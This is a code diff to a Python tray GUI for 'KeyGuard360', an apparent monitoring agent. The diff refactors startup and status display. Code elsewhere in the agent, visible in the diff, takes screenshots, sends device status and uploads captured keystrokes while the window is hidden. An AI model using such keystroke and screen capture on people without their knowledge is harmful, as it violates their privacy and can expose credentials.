@@ -3,9 +3,6 @@ from tkinter import messagebox, font
 import threading
 import sys
 import os
-from PIL import Image, ImageDraw
-import pystray
-from pystray import MenuItem as item
 from keyguard_agent import KeyGuardAgent
 from config import config
 
@@ -17,12 +14,19 @@ class KeyGuardGUI:
         self.root.resizable(False, False)
         self.root.configure(bg="#f8fafc")
         
-        # Setup the Agent
-        self.agent = KeyGuardAgent(config)
+        self.agent = None
         self.agent_thread = None
         self.icon = None
         
         self._build_ui()
+        
+        # Create the agent once the window has been drawn; its AWS setup
+        # continues in the background and is reported in the tray
+        self.root.after_idle(self._create_agent)
+
+    def _create_agent(self):
+        self.agent = KeyGuardAgent(config)
+        self.agent.on_status_change = self._on_agent_status
 
     def _build_ui(self):
         # Header
@@ -60,6 +64,11 @@ class KeyGuardGUI:
                   bg="#3b82f6", fg="white", bd=0, padx=10, pady=5, font=("Segoe UI", 10, "bold")).pack(side="right", padx=40)
 
     def create_tray_icon(self):
+        # Tray dependencies are only needed once monitoring starts
+        from PIL import Image, ImageDraw
+        import pystray
+        from pystray import MenuItem as item
+        
         # Create a simple icon image
         width = 64
         height = 64
@@ -68,16 +77,22 @@ class KeyGuardGUI:
         dc.rectangle([16, 16, 48, 48], fill=(59, 130, 246)) # Blue shield-like square
         
         menu = pystray.Menu(
-            item('Status: Monitoring Active', lambda: None, enabled=False),
+            item(lambda _: f"Status: {self.agent.status_text}", lambda: None, enabled=False),
             item('Open Settings', self.show_settings),
             item('Exit Agent', self.stop_monitoring)
         )
         
-        self.icon = pystray.Icon("KeyGuard360", image, "KeyGuard360", menu)
+        self.icon = pystray.Icon("KeyGuard360", image, f"KeyGuard360 - {self.agent.status_text}", menu)
         self.icon.run()
 
+    def _on_agent_status(self, status):
+        # Called from agent threads; pystray's update calls are thread-safe
+        if self.icon:
+            self.icon.title = f"KeyGuard360 - {status}"
+            self.icon.update_menu()
+
     def show_settings(self):
-        messagebox.showinfo("Management", f"Device ID: {self.agent.device_id}\nVersion: 1.0.0\nSync: Active")
+        messagebox.showinfo("Management", f"Device ID: {self.agent.device_id}\nVersion: 1.0.0\nSync: {self.agent.status_text}")
 
     def start_monitoring(self):
         self.root.withdraw() # Hide the window
@@ -91,21 +106,7 @@ class KeyGuardGUI:
             self.agent.capture_screenshot()
             self.agent.update_device_status()
             
-            import time
-            last_screenshot = time.time()
-            last_status = time.time()
-            
-            while self.agent.running:
-                current_time = time.time()
-                if current_time - last_screenshot >= self.agent.config.SCREENSHOT_INTERVAL:
-                    self.agent.capture_screenshot()
-                    last_screenshot = current_time
-                if current_time - last_status >= self.agent.config.STATUS_UPDATE_INTERVAL:
-                    self.agent.update_device_status()
-                    last_status = current_time
-                if len(self.agent.keylog_buffer) > 0:
-                    self.agent._upload_keylogs()
-                time.sleep(10)
+            self.agent.run_schedule()
         
         # Run agent in a background thread
         self.agent_thread = threading.Thread(target=silent_run, daemon=True)